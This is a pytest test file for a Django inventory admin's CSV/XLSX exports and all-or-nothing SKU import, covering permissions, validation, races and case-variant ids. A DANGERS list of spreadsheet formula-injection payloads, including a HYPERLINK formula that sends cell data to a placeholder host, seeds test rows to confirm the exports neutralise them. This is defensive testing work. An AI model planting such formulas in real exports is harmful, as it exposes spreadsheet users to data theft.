"""Data in and out of the admin: CSV / XLSX exports that match the tables, and
the SKU import that goes through the SKU service, all rows or none."""
from __future__ import annotations

import csv
import io
import re

import pytest
from django.contrib.auth import get_user_model
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from core.redis.connection import redis
from inventory.models import InventoryLog, Sku
from inventory.redis import keys as redis_keys, live as redis_live, snapshots as redis_snapshots
from inventory.services import skus, stock as stock_services
from inventory.tests.test_admin import staff
from testsupport.factories import unique

BUCKET_COLUMNS = ("total_stock", "available_stock", "frozen_stock", "locked_stock", "sold_stock")
CSV_FORMAT, XLSX_FORMAT = "0", "1"  # the admin's formats, in this order


def make_skus(prefix: str, n: int = 3) -> list[Sku]:
    made = [skus.sku_create(sku_id=f"{prefix}-{i}", stock=10 * (i + 1), name=f"Item {i}", price="9.50",
                            per_user_limit=2) for i in range(n)]
    stock_services.stock_freeze(sku_id=made[0].sku_id, quantity=3, reason="hold", actor="t")
    return made


def export(client: Client, url: str, fmt: str) -> bytes:
    """Ask for the export form (with the changelist's query string) and post it
    with every column ticked, as the page does."""
    page = client.get(url)
    assert page.status_code == 200, page.status_code
    form = page.context["form"]
    data = {"format": fmt, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if getattr(field, "is_selectable_field", False)})
    r = client.post(url, data)
    assert r.status_code == 200, r.content[:2000]
    assert r["Content-Disposition"].startswith("attachment;"), r.headers
    return r.content


def db_rows(prefix: str) -> dict[str, dict[str, str]]:
    return {s.sku_id: {c: str(getattr(s, c)) for c in BUCKET_COLUMNS}
            for s in Sku.objects.filter(sku_id__startswith=prefix)}


def test_sku_csv_export_matches_the_database_and_respects_the_search(live_db):
    prefix = unique("EXP")
    make_skus(prefix)
    make_skus(unique("OTHER"), n=1)
    _, client = staff("support")  # view permission is enough
    body = export(client, f"/admin/inventory/sku/export/?q={prefix}", CSV_FORMAT).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert {r["sku_id"] for r in rows} == set(db_rows(prefix))  # the filtered changelist, nothing else
    assert {r["sku_id"]: {c: r[c] for c in BUCKET_COLUMNS} for r in rows} == db_rows(prefix)
    frozen = next(r for r in rows if r["sku_id"] == f"{prefix}-0")
    assert (frozen["available_stock"], frozen["frozen_stock"], frozen["price"]) == ("7", "3", "9.50")


def test_sku_xlsx_export_opens_with_openpyxl(live_db):
    import openpyxl

    prefix = unique("XLS")
    make_skus(prefix)
    _, client = staff("ops")
    content = export(client, f"/admin/inventory/sku/export/?q={prefix}", XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = list(sheet.iter_rows(values_only=True))
    header, data = list(values[0]), values[1:]
    got = {row[header.index("sku_id")]: {c: str(row[header.index(c)]) for c in BUCKET_COLUMNS} for row in data}
    assert got == db_rows(prefix)


def test_log_orders_and_reconciliation_exports(live_db):
    prefix = unique("LOG")
    made = make_skus(prefix, n=1)
    _, client = staff("support")
    body = export(client, f"/admin/inventory/inventorylog/export/?sku__sku_id__exact={made[0].sku_id}",
                  CSV_FORMAT).decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert sorted((r["sku"], r["operation"], r["quantity"]) for r in rows) == sorted(
        (made[0].sku_id, op, str(q)) for op, q in
        InventoryLog.objects.filter(sku=made[0]).values_list("operation", "quantity"))
    assert len(rows) == 2  # the initial restock and the freeze
    for url in ("/admin/orders/order/export/", "/admin/reconciliation/skureconciliation/export/"):
        assert client.get(url).status_code == 200, url
    _, root = staff(None, superuser=True)
    assert root.get("/admin/reconciliation/finding/export/").status_code == 200


def test_export_and_import_need_their_permissions(live_db):
    User = get_user_model()
    bare = User.objects.create_user(username=unique("bare"), password="pw", is_staff=True)
    client = Client()
    client.force_login(bare)
    for url in ("/admin/inventory/sku/export/", "/admin/inventory/inventorylog/export/", "/admin/orders/order/export/",
                "/admin/reconciliation/finding/export/", "/admin/inventory/sku/import/"):
        assert client.get(url).status_code == 403, url
    _, support = staff("support")
    assert support.get("/admin/inventory/sku/import/").status_code == 403  # view only: no import
    page = support.get("/admin/inventory/sku/")
    assert b"export_link" in page.content and b"import_link" not in page.content
    assert b"Live sale view" in page.content  # the list's own tool is still there
    _, ops = staff("ops")
    page = ops.get("/admin/inventory/sku/")
    assert b"export_link" in page.content and b"import_link" in page.content


# --- import -------------------------------------------------------------------------

def csv_file(rows: list[dict], name: str = "skus.csv") -> SimpleUploadedFile:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    return SimpleUploadedFile(name, out.getvalue().encode(), content_type="text/csv")


def good_rows(prefix: str, n: int = 4) -> list[dict]:
    return [{"sku_id": f"{prefix}-{i}", "name": f"Imported {i}", "price": "12.30", "per_user_limit": "2",
             "sale_starts_at": "", "sale_ends_at": "", "status": "active", "stock": str(5 + i)} for i in range(n)]


def nothing_anywhere(sku_ids: list[str]) -> None:
    assert not Sku.objects.filter(sku_id__in=sku_ids).exists()
    assert not InventoryLog.objects.filter(sku_id__in=sku_ids).exists()
    r = redis()
    for sku_id in sku_ids:
        assert not redis_snapshots.snapshot_exists(sku_id=sku_id), sku_id
        assert not r.sismember(redis_keys.SKU_REGISTRY, sku_id), sku_id
        assert not r.keys(f"*{{{sku_id}}}*"), sku_id


def preview(client: Client, upload, fmt: str = CSV_FORMAT):
    r = client.post("/admin/inventory/sku/import/", {"import_file": upload, "format": fmt, "resource": "0"})
    assert r.status_code == 200, r.status_code
    return r


def confirm(client: Client, page):
    form = page.context["confirm_form"]
    assert form is not None, page.content[-3000:]
    return client.post("/admin/inventory/sku/process_import/", form.initial)


def test_import_with_one_bad_row_applies_nothing_and_names_the_row(live_db):
    prefix = unique("IMPBAD")
    rows = good_rows(prefix)
    rows[2]["stock"] = "-1"  # row 3
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    assert page.context.get("confirm_form") is None
    result = page.context["result"]
    assert result.has_validation_errors()
    assert [(row.number, dict(row.field_specific_errors)) for row in result.invalid_rows] == [
        (3, {"stock": ["Give the initial stock (0 or more)."]})]
    html = page.content.decode()
    assert "Give the initial stock (0 or more)." in html and "<td>3 </td>" in html
    assert 'id="sku-import-rules"' in html
    nothing_anywhere([r["sku_id"] for r in rows])


def test_import_reports_every_kind_of_bad_row(live_db, make_sku):
    existing = make_sku(stock=1)
    prefix = unique("IMPMANY")
    rows = good_rows(prefix, n=7)
    rows[6]["stock"] = "lots"
    rows[0]["per_user_limit"] = "0"
    rows[1]["sku_id"] = existing.sku_id
    rows[2]["price"] = "abc"
    rows[3]["sku_id"] = rows[4]["sku_id"]
    rows[5]["sale_starts_at"], rows[5]["sale_ends_at"] = "2030-01-02 10:00:00", "2030-01-01 10:00:00"
    _, ops = staff("ops")
    result = preview(ops, csv_file(rows)).context["result"]
    errors = {row.number: set(row.field_specific_errors) for row in result.invalid_rows}
    assert errors == {1: {"per_user_limit"}, 2: {"sku_id"}, 3: {"price"}, 5: {"sku_id"}, 6: {"sale_ends_at"},
                      7: {"stock"}}
    nothing_anywhere([r["sku_id"] for r in rows if r["sku_id"] != existing.sku_id])
    assert Sku.objects.get(pk=existing.sku_id).total_stock == 1  # untouched


def assert_sellable(sku_id: str, stock: int) -> None:
    sku = Sku.objects.get(pk=sku_id)
    assert (sku.total_stock, sku.available_stock) == (stock, stock)
    live = redis_live.live_stock(sku_id=sku_id)
    assert live is not None and live.available == stock, live
    assert redis_snapshots.sku_registry_check(sku_id=sku_id) in (True, None)
    assert InventoryLog.objects.filter(sku_id=sku_id, operation="RESTOCK", quantity=stock, status="success",
                                       actor__startswith="admin-import:").exists()


def test_good_csv_import_creates_every_sku_through_the_service(live_db):
    prefix = unique("IMPOK")
    rows = good_rows(prefix)
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    nothing_anywhere([r["sku_id"] for r in rows])  # the preview wrote nothing
    r = confirm(ops, page)
    assert r.status_code == 302, r.content[-3000:]
    for row in rows:
        assert_sellable(row["sku_id"], int(row["stock"]))
        sku = Sku.objects.get(pk=row["sku_id"])
        assert (sku.name, str(sku.price), sku.per_user_limit) == (row["name"], "12.30", 2)
    from django.contrib.admin.models import ADDITION, LogEntry

    assert LogEntry.objects.filter(object_id__in=[r["sku_id"] for r in rows], action_flag=ADDITION).count() == 4


def test_good_xlsx_import(live_db):
    import openpyxl

    prefix = unique("IMPX")
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.append(["sku_id", "name", "stock", "per_user_limit"])
    sheet.append([f"{prefix}-a", "A", 3, 1])
    sheet.append([f"{prefix}-b", "B", 0, 4])
    sheet.append([None, None, None, None])  # a blank line is skipped, not an error
    buf = io.BytesIO()
    book.save(buf)
    upload = SimpleUploadedFile("skus.xlsx", buf.getvalue(),
                                content_type="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
    _, ops = staff("ops")
    r = confirm(ops, preview(ops, upload, XLSX_FORMAT))
    assert r.status_code == 302
    assert_sellable(f"{prefix}-a", 3)
    sku_b = Sku.objects.get(pk=f"{prefix}-b")
    assert (sku_b.total_stock, sku_b.per_user_limit) == (0, 4)
    assert redis_live.live_stock(sku_id=sku_b.sku_id).available == 0


def test_a_row_that_turns_bad_after_the_preview_applies_nothing(live_db):
    prefix = unique("IMPRACE")
    rows = good_rows(prefix)
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    skus.sku_create(sku_id=rows[3]["sku_id"], stock=1)  # someone else made row 4 meanwhile
    r = confirm(ops, page)
    assert r.status_code == 200
    assert [row.number for row in r.context["result"].invalid_rows] == [4]
    assert "already exists" in r.content.decode()
    nothing_anywhere([row["sku_id"] for row in rows[:3]])


def test_skus_import_service_is_all_or_nothing(live_db):
    prefix = unique("SVC")
    specs = {1: skus.SkuSpec(sku_id=f"{prefix}-1", stock=2), 2: skus.SkuSpec(sku_id=f"{prefix}-2", stock=-5),
             3: skus.SkuSpec(sku_id=f"{prefix}-1", stock=1)}
    with pytest.raises(skus.SkuImportRefused) as refused:
        skus.skus_import(specs=specs, actor="t")
    assert set(refused.value.errors) == {2, 3}
    nothing_anywhere([f"{prefix}-1", f"{prefix}-2"])
    made = skus.skus_import(specs={1: specs[1]}, actor="t")
    assert [s.sku_id for s in made] == [f"{prefix}-1"]
    assert redis_live.live_stock(sku_id=f"{prefix}-1").available == 2
    assert InventoryLog.objects.filter(sku_id=f"{prefix}-1", operation="RESTOCK", quantity=2, actor="t").exists()


# --- no formula leaves an export -------------------------------------------------------

# One text per start a spreadsheet may evaluate (OWASP's list).
DANGERS = ('=HYPERLINK("http://x"&A1,"open")', "+1+1", "-1+1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1")


def export_rows(client: Client, url: str, fmt: str) -> list[dict]:
    """The exported rows by column: CSV texts, or XLSX cells (value and data_type)."""
    content = export(client, url, fmt)
    if fmt == CSV_FORMAT:
        return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))
    import openpyxl

    rows = list(openpyxl.load_workbook(io.BytesIO(content)).active.iter_rows())
    header = [cell.value for cell in rows[0]]
    return [dict(zip(header, row)) for row in rows[1:]]


def text_of(cell) -> str:
    """A cell's text; XML reads a stored CR back as LF, so compare with LF."""
    value = cell if isinstance(cell, str) else cell.value
    return ("" if value is None else str(value)).replace("\r", "\n")


def assert_defused(rows: list[dict], column: str, fmt: str) -> None:
    got = sorted(text_of(r[column]) for r in rows)
    assert got == sorted(text_of("'" + d) for d in DANGERS), (column, got)
    if fmt == XLSX_FORMAT:
        assert {r[column].data_type for r in rows} == {"s"}, column  # text, no formula ("f")


@pytest.fixture
def hostile(live_db):
    """Rows of every exported table whose buyer-controlled texts start with each
    of DANGERS, and a reconciliation row with a negative drift."""
    from django.utils import timezone

    from orders.models import Order
    from reconciliation.models import Finding, ReconciliationRun, SkuReconciliation

    prefix = unique("HOST")
    named = [skus.sku_create(sku_id=f"{prefix}-{i}", stock=10, name=d, price="9.50") for i, d in enumerate(DANGERS)]
    sku = named[0]
    for d in DANGERS:
        stock_services.stock_freeze(sku_id=sku.sku_id, quantity=1, reason=d, actor="t")
    buyer = get_user_model().objects.create(username=unique("buyer"))
    for i, d in enumerate(DANGERS):
        Order.objects.create(order_id=unique("o"), user=buyer, sku=sku, quantity=1, status=Order.Status.FAILED,
                             bucket=Order.Bucket.NONE, idempotency_key=d, payment_id=f"{d}{prefix}{i}",
                             failure_reason=d, created_at=timezone.now())
    run = ReconciliationRun.objects.create(trigger=ReconciliationRun.Trigger.COMMAND)
    SkuReconciliation.objects.create(run=run, sku=sku, redis_available=4, mysql_available=7, mysql_total=10,
                                     mysql_frozen=6, mysql_locked=0, mysql_sold=0, expected_redis=7, drift=-3,
                                     state=SkuReconciliation.State.ALERT)
    for d in DANGERS:
        Finding.objects.create(run=run, sku=sku, kind=Finding.Kind.DRIFT_ALERT, redis_value=-3, mysql_value=7,
                               ids=d, detail=d)
    return prefix, sku


@pytest.mark.parametrize("fmt", [CSV_FORMAT, XLSX_FORMAT], ids=["csv", "xlsx"])
def test_no_export_carries_a_formula_and_numbers_stay_numbers(hostile, fmt):
    prefix, sku = hostile
    _, root = staff(None, superuser=True)
    skus_out = export_rows(root, f"/admin/inventory/sku/export/?q={prefix}", fmt)
    assert_defused(skus_out, "name", fmt)
    log = [r for r in export_rows(root, f"/admin/inventory/inventorylog/export/?sku__sku_id__exact={sku.sku_id}", fmt)
           if text_of(r["operation"]) == "FREEZE"]
    assert_defused(log, "reason", fmt)
    orders = export_rows(root, f"/admin/orders/order/export/?sku__sku_id__exact={sku.sku_id}", fmt)
    for column in ("idempotency_key", "failure_reason"):
        assert_defused(orders, column, fmt)
    assert all(text_of(r["payment_id"]).startswith("'") for r in orders) and len(orders) == len(DANGERS)
    findings = export_rows(root, f"/admin/reconciliation/finding/export/?q={sku.sku_id}", fmt)
    for column in ("detail", "ids"):
        assert_defused(findings, column, fmt)
    [recon] = export_rows(root, f"/admin/reconciliation/skureconciliation/export/?sku__sku_id__exact={sku.sku_id}",
                          fmt)
    price, created = skus_out[0]["price"], skus_out[0]["created_at"]
    if fmt == CSV_FORMAT:
        assert (recon["drift"], recon["redis_available"], findings[0]["redis_value"]) == ("-3", "4", "-3")
        assert price == "9.50"
        assert re.fullmatch(r"\d{4}-\d\d-\d\d \d\d:\d\d:\d\d", created), created
    else:
        for cell, value in ((recon["drift"], -3), (recon["redis_available"], 4), (findings[0]["redis_value"], -3),
                            (price, 9.5)):
            assert (cell.data_type, cell.value) == ("n", value)
        assert created.data_type == "d" and created.value.year >= 2024


def test_every_admin_export_goes_through_the_defusing_base(live_db):
    """A new admin or resource cannot skip it: each registered export is a
    ViewerExportMixin with ExportResource resources, and the mixin refuses any other."""
    from django.contrib import admin
    from django.core.exceptions import ImproperlyConfigured
    from django.test import RequestFactory
    from import_export import resources
    from import_export.admin import ExportMixin

    from inventory.resources import ExportResource, ViewerExportMixin

    root, _ = staff(None, superuser=True)
    request = RequestFactory().get("/")
    request.user = root
    exporting = [m for m in admin.site._registry.values() if isinstance(m, ExportMixin)]
    assert len(exporting) >= 5
    for model_admin in exporting:
        assert isinstance(model_admin, ViewerExportMixin), model_admin
        assert all(issubclass(c, ExportResource) for c in model_admin.get_export_resource_classes(request))

    class Plain(resources.ModelResource):
        class Meta:
            model = Sku
            fields = ("sku_id", "name")

    class PlainAdmin(ViewerExportMixin, admin.ModelAdmin):
        resource_classes = [Plain]

    with pytest.raises(ImproperlyConfigured):
        PlainAdmin(Sku, admin.site).get_data_for_export(request, Sku.objects.all())


def test_an_export_beyond_the_row_cap_is_refused_with_a_message(live_db, settings):
    prefix = unique("CAP")
    make_skus(prefix, n=3)
    _, ops = staff("ops")
    settings.SECKILL_EXPORT_MAX_ROWS = 2
    url = f"/admin/inventory/sku/export/?q={prefix}"
    page = ops.get(url)
    data = {"format": CSV_FORMAT, "resource": "0"}
    data.update({name: "on" for name, field in page.context["form"].fields.items()
                 if getattr(field, "is_selectable_field", False)})
    refused = ops.post(url, data)
    assert refused.status_code == 200 and "Content-Disposition" not in refused.headers
    assert [str(m) for m in refused.context["messages"]] == [
        "This export would hold more than 2 rows; filter or search the list to fewer rows and export again."]
    rows = list(csv.DictReader(io.StringIO(export(ops, f"/admin/inventory/sku/export/?q={prefix}-0",
                                                  CSV_FORMAT).decode("utf-8-sig"))))
    assert [r["sku_id"] for r in rows] == [f"{prefix}-0"]  # a filtered export under the cap is served
    settings.SECKILL_EXPORT_MAX_ROWS = 3
    assert len(list(csv.DictReader(io.StringIO(export(ops, url, CSV_FORMAT).decode("utf-8-sig"))))) == 3


# --- SKU ids that differ only in letter case ------------------------------------------

def test_import_with_case_variant_ids_names_the_rows_and_creates_nothing(live_db):
    prefix = unique("IMPCASE")
    rows = good_rows(prefix, n=4)
    rows[0]["sku_id"], rows[2]["sku_id"], rows[3]["sku_id"] = f"{prefix}-abc", f"{prefix}-ABC", f"{prefix}-àbc"
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    assert page.context.get("confirm_form") is None
    result = page.context["result"]
    assert {row.number: set(row.field_specific_errors) for row in result.invalid_rows} == {3: {"sku_id"},
                                                                                          4: {"sku_id"}}
    html = page.content.decode()
    assert f"SKU {prefix}-ABC is the same id as {prefix}-abc in row 1 of this file" in html
    nothing_anywhere([r["sku_id"] for r in rows])


def test_import_of_an_id_that_exists_in_another_case_is_a_row_error(live_db):
    prefix = unique("IMPCASE2")
    existing = skus.sku_create(sku_id=f"{prefix}-ABC", stock=1)
    rows = good_rows(prefix, n=2)
    rows[1]["sku_id"] = f"{prefix}-abc"
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    assert page.status_code == 200 and page.context.get("confirm_form") is None
    assert {row.number: set(row.field_specific_errors) for row in page.context["result"].invalid_rows} == {
        2: {"sku_id"}}
    assert f"same id as the existing SKU {existing.sku_id}" in page.content.decode()
    nothing_anywhere([rows[0]["sku_id"]])
    assert list(Sku.objects.filter(sku_id__startswith=prefix).values_list("sku_id", "total_stock")) == [
        (existing.sku_id, 1)]


def test_import_race_with_a_case_variant_after_the_preview_applies_nothing(live_db):
    prefix = unique("IMPCASE3")
    rows = good_rows(prefix, n=3)
    _, ops = staff("ops")
    page = preview(ops, csv_file(rows))
    skus.sku_create(sku_id=rows[1]["sku_id"].upper(), stock=1)  # made meanwhile, in capitals
    r = confirm(ops, page)
    assert r.status_code == 200
    assert [row.number for row in r.context["result"].invalid_rows] == [2]
    nothing_anywhere([rows[0]["sku_id"], rows[2]["sku_id"]])


def test_the_database_has_the_last_word_on_equal_ids(live_db, monkeypatch):
    """Where the checks miss an equality MySQL's collation sees (simulated by
    switching them off), the duplicate key refuses the file, names the row and
    leaves nothing behind: never a 500."""
    prefix = unique("SVCCASE")
    monkeypatch.setattr(skus, "skus_import_errors", lambda specs: {})
    specs = {1: skus.SkuSpec(sku_id=f"{prefix}-x", stock=1), 2: skus.SkuSpec(sku_id=f"{prefix}-abc", stock=1),
             3: skus.SkuSpec(sku_id=f"{prefix}-ABC", stock=1)}
    with pytest.raises(skus.SkuImportRefused) as refused:
        skus.skus_import(specs=specs, actor="t")
    assert list(refused.value.errors) == [3]
    assert not Sku.objects.filter(sku_id__startswith=prefix).exists()
    assert not InventoryLog.objects.filter(sku__sku_id__startswith=prefix).exists()


def test_create_sku_and_the_add_form_refuse_a_case_variant_cleanly(live_db):
    from django.core.management import CommandError, call_command

    prefix = unique("CMDCASE")
    skus.sku_create(sku_id=f"{prefix}-ABC", stock=1)
    with pytest.raises(CommandError, match="already exists"):
        call_command("create_sku", f"{prefix}-abc", "--stock", "1")
    _, ops = staff("ops")
    r = ops.post("/admin/inventory/sku/add/", {
        "sku_id": f"{prefix}-abc", "name": "x", "price": "1.00", "per_user_limit": "1", "status": "active",
        "initial_stock": "1", "sale_starts_at_0": "2030-01-01", "sale_starts_at_1": "10:00:00",
        "sale_ends_at_0": "", "sale_ends_at_1": ""})
    assert r.status_code == 200 and "sku_id" in r.context["adminform"].form.errors
    assert list(Sku.objects.filter(sku_id__startswith=prefix).values_list("sku_id", flat=True)) == [f"{prefix}-ABC"]


def test_a_control_character_in_a_name_does_not_fail_the_xlsx_export(live_db):
    """openpyxl refuses control characters; one such SKU name (imports accept
    any text) must not make the whole export fail."""
    import openpyxl

    prefix = unique("CTL")
    [sku] = make_skus(prefix, n=1)
    Sku.objects.filter(pk=sku.pk).update(name="bad\x01name")
    _, client = staff("ops")
    content = export(client, f"/admin/inventory/sku/export/?q={prefix}", XLSX_FORMAT)
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    values = list(sheet.iter_rows(values_only=True))
    header = list(values[0])
    assert values[1][header.index("name")] == "bad\ufffdname"
